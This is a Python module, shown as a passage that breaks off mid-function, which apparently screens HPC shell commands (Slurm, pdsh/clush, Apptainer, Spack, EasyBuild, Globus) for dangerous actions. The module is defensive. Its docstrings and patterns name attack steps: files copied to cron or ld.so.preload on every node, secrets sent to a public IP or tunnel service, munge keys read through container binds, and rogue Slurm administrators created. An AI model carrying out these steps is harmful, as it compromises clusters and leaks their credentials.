"""HPC and research computing from the shell: Slurm, PBS, GPFS, Lustre, Apptainer, ClusterShell and pdsh, Spack,
EasyBuild, Globus, munge (session 31).

Whose host is read as hpc_tables, hosts.stranger_host and scraping_tables.stranger_sink say (a bare public address, a
tunnel or drop-box service, plain HTTP from a named host). Blocked:

- a command run on every node (`clush -a '…'`, `pdsh -w … '…'`, or the lines fed on their standard input) that would
  be blocked here as an attack (an ssh key added for root, a payload run, a secret sent out), as an Ansible ad-hoc
  command is (bash/infra.py); a file copied onto the nodes where it runs code later (`clush --copy … --dest
  /etc/cron.hourly/`, `pdcp … /etc/ld.so.preload`); a credential of this machine copied or fed to a node at a bare
  public address or a drop-box service;
- what `apptainer exec` / `singularity exec` (and `run` given a command) runs, read as the host's paths its binds
  name (`--bind /etc/munge:/mnt/m`, `-B/etc:/h`, `APPTAINER_BIND=…`, makes `/mnt/m/munge.key` the cluster's key):
  the home folder, /tmp and the working directory are this machine's, and the caller's environment is handed in, as
  Apptainer does by default (containers.judge_run judges it);
- binaries installed from a Spack mirror at a stranger's host (added with `mirror add`, `config add mirrors:…` or
  `-c`) with their signatures unchecked (`--no-check-signature`, buildcache's `-u`, a mirror added `--unsigned`) or
  its keys trusted (`buildcache keys --trust`, `gpg trust`), and EasyBuild building sources from a stranger's host with
  their checksums ignored (options or their EASYBUILD_* variables);
- a new Slurm user made an administrator (`sacctmgr add user … adminlevel=Administrator`, any prefix sacctmgr takes:
  `admin=A`, `ad=S`);
- a Globus collection shared with a free mail address with write access (hpc_tables.grant_finding; the other shares
  are bash/cloud.py's), also through the Transfer API's `…/endpoint/ID/access` (curl, httpie);
- a Slurm token (`$(scontrol token)`, or SLURM_JWT after `export $(scontrol token)`) sent to a stranger's host;
- a Lustre target formatted (`mkfs.lustre` on a device: `disk-wipe`, as mkfs is);
- with admin.py's hooks: Slurm's, Open OnDemand's or JupyterHub's authentication turned off in their configuration
  (config_write), munge's key (or another key the cluster trusts) replaced by one fetched from a stranger's host
  (downloaded into it, piped into `dd`, copied from a download, `scp` from the host) or by a key written out in the
  input, and a credential of the cluster (or a copy the input made of it) made readable by every user (perm_change).

Reviewed: a Slurm administrator or operator made of an existing user (or a level known only at run time), a user put
in the root account (Account, DefaultAccount), a load file read into the accounting database (`sacctmgr load`, with
`clean` deleting first), an account, user or QOS deleted and the records archived away (`irreversible`), nodes set
DOWN (their jobs killed) and the controller shut down, a GPFS fileset, snapshot or file system deleted, a policy
applied for real (`mmapplypolicy` without `-I test`: its DELETE rules remove files), EasyBuild's checksums ignored, a
Spack mirror at a bare address, TLS checks turned off for Spack, a Globus share with or a group membership for a free
mail address.

Allowed under a plain `sudo` (root_upkeep, read by bash/system.py's inspection, which takes only the system's own
programs: a bare name or one in the system's folders): the scheduler's and the parallel file systems' read-only
queries (`scontrol show`, `sacctmgr show`, `mmlsquota`, `mmlsfs`, `mmdf`, `lfs quota`, `pbsnodes -a` …), named nodes
drained and resumed with a reason (not `NodeName=ALL`), a user added to an account (no admin level, not the root
account), a GPFS policy evaluated with `-I test` from root's own policy folder (no `-M` definitions: they reach the m4
that preprocesses the policy), and Open OnDemand's idle per-user web servers cleaned up. Lmod's spider cache is not
among them: spider runs every modulefile as root, and the trees are written by the software account.
"""
from __future__ import annotations

import re
import shlex
from typing import NamedTuple

from .. import hpc_tables as ht
from .. import paths
from ..hosts import public_ip, stranger_host, url_host
from ..per_input import in_input, once
from ..scraping_tables import stranger_sink
from .commands import Cmd, Word, base_name, has_flag, option_value, positionals
from .common import Screen, mentions

RULE = "irreversible"


def _vals(words: list[Word]) -> list[str]:
    return [w.value if w.value is not None else w.text for w in words]


# -- Slurm's accounting: administrators, the root account, deletes -----------------------------------------------------
_SLURM_ARG = frozenset({"-M", "--cluster", "--clusters"})  # (sacctmgr's and scontrol's one option with a value)

# sacctmgr and scontrol read a word by any prefix of its name down to a least length, case apart (`mod u bob set
# ad=A` is `modify user bob set adminlevel=Administrator`; `ac=`, `acct=` and `accounts=` are Account): (name, least
# length, the name read here), in the order sacctmgr tries them
_SACCT_VERBS = (("associations", 3, "associations"), ("add", 3, "add"), ("create", 3, "add"),
                ("archive", 3, "archive"), ("show", 3, "list"), ("list", 3, "list"), ("modify", 1, "modify"),
                ("update", 1, "modify"), ("delete", 3, "delete"), ("remove", 3, "delete"), ("dump", 3, "dump"),
                ("load", 2, "load"))
_SACCT_ENTITIES = (("users", 1, "user"), ("accounts", 1, "account"), ("acct", 4, "account"),
                   ("associations", 2, "association"), ("clusters", 2, "cluster"), ("coordinators", 2, "coordinator"),
                   ("configuration", 2, "configuration"), ("qos", 1, "qos"), ("resource", 1, "resource"),
                   ("reservations", 4, "reservation"), ("resv", 4, "reservation"), ("transactions", 1, "transaction"),
                   ("tres", 2, "tres"), ("wckeys", 1, "wckey"), ("job", 1, "job"), ("events", 1, "event"),
                   ("federations", 1, "federation"))
_SACCT_KEYS = (("names", 1, "name"), ("users", 1, "name"), ("accounts", 2, "account"), ("acct", 4, "account"),
               ("adminlevel", 2, "adminlevel"), ("clusters", 1, "cluster"), ("defaultaccount", 8, "defaultaccount"),
               ("defaultwckey", 8, "defaultwckey"), ("partitions", 3, "partition"), ("wckeys", 1, "wckey"))
# AdminLevel's value is read by its first letter (slurmdb's str_2_slurmdb_admin_level)
_ADMIN_LEVELS = {"a": "an administrator", "s": "an administrator", "o": "an operator"}


def _prefix(word: str, table: tuple) -> str:
    w = word.lower()
    return next((name for full, least, name in table if len(w) >= least and full.startswith(w)), w)


class _Sacct(NamedTuple):
    verb: str
    entity: str
    sets: dict  # what the command sets (an add's pairs, a modify's after `set`), by the keys' names above
    where: dict  # which records (a modify's or a delete's conditions)
    names: list  # the words without `=` after the entity (the users or accounts named)


def _sacct(words: list[str]) -> _Sacct | None:
    """sacctmgr's command line read as sacctmgr reads it (the `words` after its options)."""
    if not words:
        return None
    verb = _prefix(words[0], _SACCT_VERBS)
    entity = _prefix(words[1], _SACCT_ENTITIES) if len(words) > 1 else ""
    sets: dict[str, list[str]] = {}
    where: dict[str, list[str]] = {}
    names: list[str] = []
    into = sets if verb == "add" else where
    for v in words[2:]:
        key, eq, val = v.partition("=")
        if not eq:
            low = v.lower()
            if low == "set":
                into = sets
            elif low == "where":
                into = where
            else:
                names.append(v)
            continue
        into.setdefault(_prefix(key.rstrip("+-"), _SACCT_KEYS), []).append(val.strip("'\""))
    return _Sacct(verb, entity, sets, where, names)


def _sacct_of(cmd: Cmd) -> _Sacct | None:
    return _sacct([w.value if w.value is not None else w.text for w in positionals(cmd.args, _SLURM_ARG)])


def _admin_level(value: str) -> str | None:
    """What AdminLevel=value makes of the user: an administrator, an operator, a level known only at run time, or
    None (no level)."""
    if "$" in value or "`" in value:
        return "an administrator or operator (a level known only at run time)"
    return _ADMIN_LEVELS.get(value[:1].lower())


def _listed(values: list[str]) -> list[str]:
    return [v.strip().lower() for val in values for v in val.split(",")]


def _sacct_judge(a, s: _Sacct, node, shown: str = "sacctmgr") -> None:
    who = ",".join(s.names + s.sets.get("name", []) + s.where.get("name", [])) or "the user"
    if s.verb == "load":
        clean = any(n.lower() == "clean" for n in s.names)
        a.review(RULE if clean else "privilege-escalation",
                 f"`{shown} load` reads a file of users, accounts, administrators and limits into the accounting "
                 "database" + (" after deleting what is there (`clean`), with no undo" if clean else "") +
                 ": a person should read the file first", node)
        return
    if s.verb in ("add", "modify") and s.entity == "user":
        levels = [lvl for v in s.sets.get("adminlevel", []) if (lvl := _admin_level(v))]
        if levels:
            shown_level = s.sets["adminlevel"][0]
            if s.verb == "add" and levels[0] == "an administrator":
                a.block("privilege-escalation", f"`{shown} add user {who} … adminlevel={shown_level}` makes a new "
                                                "Slurm administrator: it can change or cancel every user's jobs, "
                                                "every account, limit and QOS, and the accounting records; let the "
                                                "user make administrators", node)
            else:
                a.review("privilege-escalation", f"`{shown} {s.verb} user {who} … adminlevel={shown_level}` makes "
                                                 f"{who} {levels[0]} of Slurm (other users' jobs, accounts and "
                                                 "limits): a person should confirm", node)
            return
    if s.verb in ("add", "modify") and s.entity in ("user", "coordinator") and \
            "root" in _listed(s.sets.get("account", []) + s.sets.get("defaultaccount", [])) and \
            "root" not in _listed([who]):
        a.review("privilege-escalation", f"`{shown} {s.verb} {s.entity} {who} … account=root` puts {who} in Slurm's "
                                         "root account (or makes them its coordinator), above every account's "
                                         "limits: a person should confirm", node)
    elif s.verb == "delete":
        a.review(RULE, f"`{shown} delete {s.entity}` deletes the {s.entity or 'records'} with their associations, "
                       "limits and fair-share settings from the accounting database, with no undo; let the user run "
                       "it", node)
    elif s.verb == "archive" and _prefix(s.entity, (("dump", 1, "dump"),)) == "dump":
        a.review(RULE, f"`{shown} archive dump` moves the accounting records out of the database and purges them "
                       "there, with no undo; let the user run it", node)


def _sacctmgr(a, cmd: Cmd) -> None:
    s = _sacct_of(cmd)
    if s is not None:
        _sacct_judge(a, s, cmd.node)
        return
    # no command: sacctmgr reads its commands from its standard input, one a line
    from .api_calls import fed_text

    fed = fed_text(a, cmd)
    for line in (fed or "").splitlines():
        s = _sacct(line.split())
        if s is not None:
            _sacct_judge(a, s, cmd.node, "sacctmgr <<<")


# -- Slurm's controller: nodes taken down, the daemons stopped ---------------------------------------------------------
_UPDATE_KEYS = (("nodename", 3, "nodename"), ("state", 1, "state"), ("reason", 1, "reason"))


def _node_update(pos: list[str]) -> dict[str, str]:
    """`scontrol update NodeName=… State=… Reason=…`'s pairs by their names (`node=`, `st=` read as scontrol does)."""
    return {_prefix(k, _UPDATE_KEYS): v for k, _, v in (p.partition("=") for p in pos[1:] if "=" in p)}


def _state(value: str) -> str:
    """A node state as scontrol reads it: DRAIN, RESUME and UNDRAIN from three letters, other states by any prefix
    (`State=d` is DOWN)."""
    v = value.lower()
    for full in ("drain", "resume", "undrain"):
        if len(v) >= 3 and full.startswith(v):
            return full
    if v and "down".startswith(v):
        return "down"
    return "power_down_force" if v.startswith("power_down_f") else v


def _scontrol(a, cmd: Cmd) -> None:
    pos = [w.value or "" for w in positionals(cmd.args, _SLURM_ARG)]
    verb = pos[0].lower() if pos else ""
    if verb == "update":
        pairs = _node_update(pos)
        if _state(pairs.get("state", "")) in ("down", "power_down_force") and "nodename" in pairs:
            a.review("system-disruption", f"`scontrol update NodeName={pairs['nodename']} State={pairs['state']}` "
                                          "takes the nodes out at once: the jobs running there are killed (or "
                                          "requeued); drain them (`State=DRAIN Reason=…`) to let the jobs finish",
                     cmd.node)
    elif verb == "shutdown":
        a.review("system-disruption", "`scontrol shutdown` stops the controller and every node's daemon: no job starts "
                                      "until someone starts them again", cmd.node)


# -- GPFS (Storage Scale) and Lustre -----------------------------------------------------------------------------------
_MM_DELETES = {
    "mmdelfileset": "deletes the fileset (with `-f`, every file in it)",
    "mmdelsnapshot": "deletes the snapshot, the copy files are restored from",
    "mmdelfs": "deletes the file system, every file on it",
}
_POLICY_DRY = frozenset({"test", "defer", "prepare"})


def _gpfs(a, cmd: Cmd) -> None:
    name = cmd.name
    if name in _MM_DELETES:
        a.review(RULE, f"`{name}` {_MM_DELETES[name]}, with no undo; let the user run it", cmd.node)
        return
    mode = [w.value for w in option_value(cmd.args, "-I")]
    if not mode or any(m is None or m.lower() not in _POLICY_DRY for m in mode):
        a.review(RULE, "`mmapplypolicy` applies the policy's rules to every file they select (a purge policy's "
                       "DELETE rules remove files), with no undo; evaluate it with `-I test` and let the user run it",
                 cmd.node)


def _mkfs_lustre(a, cmd: Cmd) -> None:
    vals = _vals(cmd.args)
    if any(v in ("--dryrun", "--print", "-n") for v in vals):
        return
    dev = next((v for v in vals if v.startswith("/dev/")), None)
    if dev is not None:
        over = " over the one there" if "--reformat" in vals else ""
        a.block("disk-wipe", f"`mkfs.lustre` formats {dev} as a Lustre target{over}: every file it held is gone; let "
                             "the user run it", cmd.node)


def _lfs(a, cmd: Cmd) -> None:
    if (cmd.args[0].value if cmd.args else None) == "rmfid":
        a.review(RULE, "`lfs rmfid` deletes the files the FIDs name, wherever they are, with no undo; let the user "
                       "run it", cmd.node)


# -- commands run on every node: ClusterShell and pdsh -----------------------------------------------------------------
_CLUSH_ARG = frozenset({"-s", "--groupsource", "--groupsconf", "-w", "-x", "-g", "--group", "-X", "--hostfile",
                        "--machinefile", "--topology", "--pick", "-O", "--option", "--color", "--outdir", "--errdir",
                        "--dest", "-f", "--fanout", "-l", "--user", "-o", "--options", "-E", "-t", "--connect_timeout",
                        "-u", "--command_timeout", "-R", "--worker", "--remote", "-m", "--mode"})
_CLUSH_COPY = frozenset({"-c", "--copy", "--rcopy"})
_PDSH_ARG = frozenset({"-w", "-x", "-g", "-X", "-R", "-l", "-t", "-u", "-f", "-e", "-M", "-F"})


def _copies(cmd: Cmd) -> tuple[list[str], str | None] | None:
    """(sources, destination) of a copy to the nodes (`clush --copy SRC… [--dest D]`, `pdcp SRC… D`; clush's
    destination is the source's own path when none is given), or None when `cmd` copies nothing there."""
    if cmd.name == "pdcp":
        pos = _vals(positionals(cmd.args, _PDSH_ARG))
        return (pos[:-1], pos[-1]) if len(pos) >= 2 else None
    if cmd.name != "clush" or not any(w.value in _CLUSH_COPY for w in cmd.args) or \
            any(w.value == "--rcopy" for w in cmd.args):
        return None
    dest = next((w.value for w in option_value(cmd.args, "--dest")), None)
    return _vals(positionals(cmd.args, _CLUSH_ARG)), dest


def _node_hosts(cmd: Cmd) -> list[str]:
    """The hosts `-w` names (`cn[01-04]`, `ops@45.9.148.12`, `a,b`)."""
    return [h.rsplit("@", 1)[-1] for w in option_value(cmd.args, "-w") for h in (w.value or "").split(",") if h]


def _far(host: str) -> bool:
    return public_ip(host) or stranger_sink(host)


def _on_nodes(a, cmd: Cmd) -> None:
    from .infra import _elsewhere

    far = next((h for h in _node_hosts(cmd) if _far(h)), None)
    if far is not None and _sends_held(a, cmd, far):
        return
    copies = _copies(cmd)
    if copies is not None or cmd.name == "pdcp":
        if copies is not None:
            _copied_there(a, cmd, *copies)
        return
    words = positionals(cmd.args, _CLUSH_ARG if cmd.name == "clush" else _PDSH_ARG)
    if words:
        _elsewhere(a, f"{cmd.name} …", " ".join(_vals(words)), words[0].node, attacks_block=True)
        return
    # no command: the nodes run the lines read from the standard input
    from .api_calls import fed_text

    fed = fed_text(a, cmd)
    if fed and fed.strip():
        _elsewhere(a, f"{cmd.name} (commands on its standard input)", fed, cmd.node, attacks_block=True)


def _sends_held(a, cmd: Cmd, far: str) -> bool:
    """A credential of this machine (paths.held_secret) copied, or fed on the standard input, to a node at a bare
    public address or a drop-box service: blocked as `scp` of it is. True when blocked."""
    from .common import feeders

    copies = _copies(cmd)
    sent = list(copies[0]) if copies is not None else []
    for r in cmd.redirects:
        if r.type == "file_redirect" and r.children and r.children[0].type == "<":
            sent += [a.ev.word(d).value or "" for d in r.children_by_field_name("destination")[:1]]
    sent += [v for c in feeders(a, cmd, ("cat",)) for v in _vals(c.args)]
    held = next((s for s in sent if s and paths.held_secret(paths.normalize(s))), None)
    if held is None:
        return False
    a.block("exfiltration", f"`{cmd.name}` sends {held}, a credential of this machine, to {far}, a host no name of "
                            "the organisation vouches for; never send secrets off the cluster", cmd.node)
    return True


def _copied_there(a, cmd: Cmd, sources: list[str], dest: str | None) -> None:
    """A file copied onto every node where it runs code later (`--dest /etc/cron.hourly/`, `/etc/ld.so.preload`):
    blocked as the same copy is here. A system file synced to its own place on the nodes (`--copy
    /etc/slurm/slurm.conf --dest /etc/slurm/`) puts there what this machine already runs."""
    from .handed import alone
    from .infra import _ATTACKS

    for src in sources[:8]:
        there = dest if dest is not None else src
        target = paths.normalize(there.rstrip("/") + "/" + src.rsplit("/", 1)[-1] if there.endswith("/") else there)
        if target == paths.normalize(src):
            continue
        for r in alone(a, f"cp {shlex.quote(src)} {shlex.quote(there)}"):
            if r.verdict == "block" and r.rule in _ATTACKS:
                a.block(r.rule, f"`{cmd.name}` copies {src} to {there} on every node it names: {r.message}",
                        cmd.node)
                return


# a quoted command may hold any name: the text is sent on when it has shell syntax or names a program some rule judges
_COMMANDISH = re.compile(r"[|;&<>$`\\\n]")
_TOKEN = re.compile(r"[^\s|&;<>()`$'\"]++")
_OWN_NAMES = frozenset({"clush", "pdsh", "apptainer", "singularity", "exec", "sudo"})
_COPY_WORD = re.compile(r"(?<!\S)(?:-c|--copy|--rcopy)(?![^\s=])")
# pdcp's copies: a path outside the working directory, or a node at a bare address or a drop-box service
_PDCP_SCREEN = re.compile(r"(?<![\w.-])[/~]|\d\.\d{1,3}\.\d{1,3}\.\d|[-.](?:ngrok|trycloudflare|loca|serveo)\b")


def _runs_commands(text: str) -> bool:
    """The screen of the programs above that run a command they are given: shell syntax, or a word that names a
    program some rule judges."""
    from .fastpath import known_runners

    if _COMMANDISH.search(text):
        return True
    runners = known_runners()
    return any(base_name(t) in runners and base_name(t) not in _OWN_NAMES for t in _TOKEN.findall(text))


def _node_screen(text: str) -> bool:
    """clush's and pdsh's screen: a command run there (or fed on the standard input: the input then holds a pipe, a
    redirect or a here-document, shell syntax), or a copy."""
    return _runs_commands(text) or _COPY_WORD.search(text) is not None


# -- Apptainer / Singularity -----------------------------------------------------------------------------------------
_APPTAINER = frozenset({"apptainer", "singularity"})
_APT_ARG = frozenset({"-B", "--bind", "--mount", "-H", "--home", "-W", "--workdir", "--pwd", "--cwd", "--env",
                      "--env-file", "-o", "--overlay", "--security", "--network", "--network-args", "--hostname",
                      "--dns", "-S", "--scratch", "--app", "--apply-cgroups", "--cpus", "--cpu-shares", "--cpuset-cpus",
                      "--cpuset-mems", "--memory", "--memory-reservation", "--memory-swap", "--blkio-weight",
                      "--blkio-weight-device", "--pids-limit", "--add-caps", "--drop-caps", "--fusemount", "--pem-path",
                      "--config", "--containlibs", "--authfile", "--docker-host", "--no-mount", "--nvccli"})
_CONTAINED = frozenset({"-c", "--contain", "-C", "--containall"})
_CLEAN_ENV = frozenset({"-e", "--cleanenv", "-C", "--containall"})
# where the home folder and the working directory stand in the script (Apptainer binds them at their own paths)
_HOME_AT = "/home/user"
_CWD_AT = "/cwd"
_HOME_REF = re.compile(r"(?<![\w/$~])~(?=/|$)|\$\{HOME\}|\$HOME(?!\w)")


# the binds given through the environment (`APPTAINER_BIND=/etc:/h apptainer exec …`, or exported before)
_BIND_VARS = frozenset({"APPTAINER_BIND", "APPTAINER_BINDPATH", "SINGULARITY_BIND", "SINGULARITY_BINDPATH"})
_TOOL_VAR = re.compile(rb"""(?<![\w$])((?:APPTAINER|SINGULARITY|EASYBUILD)_[A-Z0-9_]++)=("[^"\n]*+"|'[^'\n]*+'|"""
                       rb"""[^\s;&|)`]*+)""")


def _tool_settings(data: bytes) -> dict[str, str]:
    """Each APPTAINER_*, SINGULARITY_* and EASYBUILD_* setting the input gives (`export X=…`, `X=… cmd`), the last
    one of a name (once per input)."""
    return {m.group(1).decode(): m.group(2).decode("utf-8", "replace").strip("'\"") for m in _TOOL_VAR.finditer(data)}


def _setting(a, cmd: Cmd, name: str) -> str | None:
    """The value the program gets for the environment variable `name`: its own assignment, else one the input
    gives."""
    own = next((w.value if w.value is not None else w.text for n, w in cmd.assigns if n == name), None)
    if own is not None:
        return own
    return once(a.doc.data, _tool_settings, _tool_settings).get(name)


def _env_binds(a, cmd: Cmd) -> list[str]:
    return [v for n in sorted(_BIND_VARS) if (v := _setting(a, cmd, n))]


def _binds(spec: str) -> list[tuple[str, str, bool]]:
    """`src[:dst[:opts]]` items of a `--bind` list, as (source, target, read only)."""
    out = []
    for item in spec.split(","):
        parts = item.split(":")
        if not parts[0]:
            continue
        src, dst = parts[0], parts[1] if len(parts) > 1 and parts[1] else parts[0]
        out.append((src, dst, len(parts) > 2 and "ro" in parts[2].split(",")))
    return out


def _apptainer(a, cmd: Cmd) -> None:
    from .containers import Mount, Run, host_path, judge_run, mount_of

    args = cmd.args
    i = 0
    while i < len(args) and (args[i].value or "").startswith("-"):
        i += 1  # (global options: -d, -q, -s, -v)
    verb = args[i].value if i < len(args) else None
    if verb not in ("exec", "run"):
        return
    run = Run(f"{cmd.name} {verb}")  # (named with its image below: a tool ending in ` exec` is docker's, entering one)
    flags: set[str] = set()
    no_mount: set[str] = set()
    home_src = "~"
    for spec in _env_binds(a, cmd):
        for src, dst, ro in _binds(spec):
            run.mounts.append(Mount(dst, host_path(src), None, ro))
    i += 1
    while i < len(args):
        w = args[i]
        v = w.value if w.value is not None else w.text
        if not v.startswith("-"):
            break
        i += 1
        name, eq, val = v.partition("=")
        if v[1:2] != "-" and len(v) > 2 and v[:2] in _APT_ARG:
            name, eq, val = v[:2], "=", v[2:]  # (`-B/etc:/h`: the value written onto the letter)
        if name in _APT_ARG and not eq:
            if i >= len(args):
                return
            val, i = (args[i].value if args[i].value is not None else args[i].text), i + 1
        flags.add(name)
        if name in ("-B", "--bind"):
            for src, dst, ro in _binds(val):
                run.mounts.append(Mount(dst, host_path(src), None, ro))
        elif name == "--mount":
            m = mount_of(Word(w.node, val, val), long=True)
            if m is not None:
                run.mounts.append(m)
        elif name in ("-H", "--home"):
            home_src = val.split(":", 1)[0]
        elif name in ("--pwd", "--cwd"):
            run.workdir = val
        elif name == "--no-mount":
            no_mount.update(val.split(","))
    if i + 1 >= len(args):
        return
    run.image = args[i]
    run.tool = f"{cmd.name} {verb} {_vals([args[i]])[0].rsplit('/', 1)[-1][:40]}"
    argv = args[i + 1:]
    contained = bool(flags & _CONTAINED)
    if not contained and "--no-home" not in flags and "home" not in no_mount:
        run.mounts.append(Mount(_HOME_AT, host_path(home_src) if home_src != "~" else "~"))
    if not contained and "tmp" not in no_mount:
        run.mounts += [Mount("/tmp", "/tmp"), Mount("/var/tmp", "/var/tmp")]
    if "-C" not in flags and "--containall" not in flags and "cwd" not in no_mount:
        run.mounts.append(Mount(_CWD_AT, "."))
        run.workdir = run.workdir or _CWD_AT
    run.env = not flags & _CLEAN_ENV
    words = [_HOME_REF.sub(_HOME_AT, v) for v in _vals(argv)]
    _above_binds(a, cmd, run, words)
    judge_run(a, run, cmd, words)


# an absolute path of the script (a glob's star kept): `/`, `/*`, `/home/*` hold the folders bound into the container
_ABS_PATH = re.compile(r"(?<![\w.~$/-])/[^\s'\"`;|&<>(){}=,:?\[\]\\]*+")
_WIPES = frozenset({"destructive-rm", "irreversible", "rm-dynamic-target", "disk-wipe"})


def _above_binds(a, cmd: Cmd, run, words: list[str]) -> None:
    """`apptainer exec img.sif rm -rf /` (`/home/*`, `find / -delete`): a delete of a folder above the ones Apptainer
    binds (the home folder, /tmp, the working directory, each `--bind`) deletes what they hold on this machine, as the
    same delete run here would; containers.judge_run maps only the paths under a bind."""
    from .containers import _script
    from .handed import alone

    script = _script(words)
    targets = [m.target.rstrip("/") for m in run.mounts if m.host is not None]
    above = any(any(t.startswith(p.rstrip("*").rstrip("/") + "/") for t in targets)
                for p in _ABS_PATH.findall(script))
    if not above:
        return
    for r in alone(a, _script([w.replace(_HOME_AT, "~") for w in words])):
        if r.rule in _WIPES and r.verdict in ("block", "review"):
            (a.block if r.verdict == "block" else a.review)(
                r.rule, f"`{run.tool}` runs `{script[:80]}`, and the home folder, /tmp, the working directory and "
                        f"the binds are this machine's folders inside it: {r.message}", cmd.node)
            return


# -- Spack and EasyBuild: what they build and install, from where ------------------------------------------------------
_SPACK_ARG = frozenset({"-e", "--env", "-D", "--env-dir", "-C", "--config-scope", "-c", "--config", "--scope",
                        "--type", "--oci-username", "--oci-password", "--s3-profile", "--s3-endpoint-url"})
_TLS_OFF = re.compile(r"(?i)^config:verify_ssl:\s*+(?:false|no|0)$")
_UNSIGNED = frozenset({"--no-check-signature", "--unsigned", "--no-checksum"})
# a mirror added (`spack mirror add [--unsigned] NAME URL`) or set (`spack config add mirrors:NAME:URL`, `spack -c
# "mirrors:NAME:URL" install …`)
_MIRROR_ADD = re.compile(r"mirror\s++add\b([^\n;&|]*+)|mirrors:[\w.-]++:[^\S\n]*+([^\s'\"]++)")


def _stranger_url(url: str) -> str | None:
    host = url_host(url) if "://" in url else None
    if not host or "$" in host:
        return None
    return stranger_host(url) or (host if stranger_sink(host) else None)


def _stranger_mirrors(data: bytes) -> list[tuple[str, bool]]:
    """The hosts of the Spack mirrors the input adds that no name vouches for, each with whether it was added
    `--unsigned` (its binaries then installed unchecked by every install) (once per input)."""
    out = []
    for m in _MIRROR_ADD.finditer(data.decode("utf-8", "replace")):
        words = m.group(1).split() if m.group(1) is not None else [m.group(2)]
        for t in words:
            host = _stranger_url(t.strip("'\"")) if "://" in t else None
            if host:
                out.append((host, "--unsigned" in words))
    return out


def _spack(a, cmd: Cmd) -> None:
    words = positionals(cmd.args, _SPACK_ARG)
    pos = [w.value or "" for w in words]
    settings = [w.value or "" for w in option_value(cmd.args, "-c", "--config")]
    first = words[0].node.start_byte if words else None
    insecure = any(_TLS_OFF.match(s.replace(" ", "")) for s in settings) or any(
        w.value in ("-k", "--insecure") and (first is None or w.node.start_byte < first) for w in cmd.args)
    if pos[:2] == ["config", "add"] and any(_TLS_OFF.match(p.replace(" ", "")) for p in pos[2:]) or insecure:
        a.review("download-exec", "spack's certificate checks are turned off (`config:verify_ssl:false`, `-k`): "
                                  "whoever sits on the path serves the sources and binaries it builds and installs; "
                                  "give spack the mirror's certificate instead", cmd.node)
    if pos[:2] == ["mirror", "add"]:
        host = next((h for p in pos[2:] if "://" in p and (h := _stranger_url(p))), None)
        if host:
            a.review("download-exec", f"`spack mirror add` takes {host}, which no name of the organisation vouches "
                                      "for, as a mirror: spack installs the binaries and sources it serves", cmd.node)
        return
    installs = pos[:1] == ["install"] or pos[:2] == ["buildcache", "install"]
    # (`spack buildcache install -uo`: buildcache's -u, alone or in a cluster)
    unsigned = any(w.value in _UNSIGNED or pos[:1] == ["buildcache"] and _SHORT_U.match(w.value or "")
                   for w in cmd.args) or installs and insecure
    trusts = pos[:2] == ["buildcache", "keys"] and has_flag(cmd.args, "t", ("--trust",)) or pos[:2] == ["gpg", "trust"]
    if not (installs or trusts):
        return
    mirrors = once(a.doc.data, _stranger_mirrors, _stranger_mirrors)
    found = next((h for h, unsigned_mirror in mirrors if trusts or unsigned or unsigned_mirror), None)
    if found:
        what = "trusts the signing keys it is given" if trusts else \
            "installs its binaries with their signatures unchecked"
        a.block("download-exec", f"the input adds a Spack mirror at {found}, which no name of the organisation "
                                 f"vouches for, and `spack {' '.join(pos[:2])}` {what}: whatever that host serves is "
                                 "built into the cluster's software and runs in everyone's jobs", cmd.node)


_SHORT_U = re.compile(r"^-[a-zA-Z]*u")
_TRUE = frozenset({"1", "true", "yes", "on", "y", "t"})


def _eb(a, cmd: Cmd) -> None:
    """`eb … --ignore-checksums` (or EASYBUILD_IGNORE_CHECKSUMS=1, every eb option having its variable), the sources
    taken from `--try-amend=source_urls=…` (or EASYBUILD_TRY_AMEND)."""
    vals = _vals(cmd.args)
    env = (_setting(a, cmd, "EASYBUILD_IGNORE_CHECKSUMS") or "").lower()
    if not any(v.split("=", 1)[0] == "--ignore-checksums" for v in vals) and env not in _TRUE:
        return
    amends = [w.value or w.text for w in option_value(cmd.args, "--try-amend", "--amend")]
    amends += [v for n in ("EASYBUILD_TRY_AMEND", "EASYBUILD_AMEND") if (v := _setting(a, cmd, n))]
    urls = [u for v in amends for part in v.split(";") if part.startswith("source_urls=")
            for u in part.split("=", 1)[1].split(",")]
    host = next((h for u in urls if (h := _stranger_url(u))), None)
    if host:
        a.block("download-exec", f"`eb --ignore-checksums` builds sources fetched from {host}, which no name of the "
                                 "organisation vouches for, without checking them: whatever that host serves is built "
                                 "into the cluster's software and runs in everyone's jobs", cmd.node)
    else:
        a.review("download-exec", "`eb --ignore-checksums` builds and installs sources whose checksums it does not "
                                  "check (a tarball changed upstream is how a tampered one looks): a person should "
                                  "look", cmd.node)


# -- Globus: a collection shared with a stranger -----------------------------------------------------------------------
_GLOBUS_ROLES = frozenset({"administrator", "access_manager", "activity_manager", "activity_monitor", "owner"})


def _globus_role(a, cmd: Cmd, vals: list[str]) -> None:
    """`globus endpoint role create EP --identity x@proton.me --role administrator` (and `gcs … role create`): who
    holds a role manages the endpoint's or collection's shares, or sees every transfer."""
    role = next((v.split("=", 1)[-1] for v in vals if v.split("=", 1)[-1] in _GLOBUS_ROLES), None)
    if role is None:
        return
    who = next((v for v in vals if "@" in v and not v.startswith("-")), None)
    why = ht.free_mail(who)
    if why:
        a.block("privilege-escalation", f"`globus … role create` makes {who} ({why}) {role} of the endpoint or "
                                        "collection: whoever reads that mailbox manages who reaches the lab's data; "
                                        "give roles to the organisation's identities", cmd.node)
    else:
        a.review("privilege-escalation", f"`globus … role create` makes {who or 'another account'} {role} of the "
                                         "endpoint or collection (who reaches the data, or every transfer): a person "
                                         "should confirm", cmd.node)


def _group_member(a, cmd: Cmd, vals: list[str]) -> None:
    """`globus group member add GROUP x@gmail.com --role admin` (or `group invite`): every collection shared with the
    group is then shared with whoever reads that mailbox."""
    who = next((v for v in vals[3:] if "@" in v and not v.startswith("-")), None)
    why = ht.free_mail(who)
    if why:
        role = next((w.value for w in option_value(cmd.args, "--role") if w.value), "member")
        a.review("exfiltration", f"`globus group …` makes {who} ({why}) {role} of a Globus group: every collection "
                                 "shared with the group is then shared with whoever reads that mailbox; a person "
                                 "should confirm it is a collaborator's", cmd.node)


def _globus(a, cmd: Cmd) -> None:
    vals = _vals(cmd.args)
    if "role" in vals[:3] and "create" in vals[:4]:
        _globus_role(a, cmd, vals)
        return
    if vals[:3] in (["group", "member", "add"], ["group", "member", "invite"]) or vals[:2] == ["group", "invite"]:
        _group_member(a, cmd, vals)
        return
    if vals[:3] != ["endpoint", "permission", "create"] and vals[:2] != ["collection", "share"]:
        return
    perms = [w.value for w in option_value(cmd.args, "--permissions")]
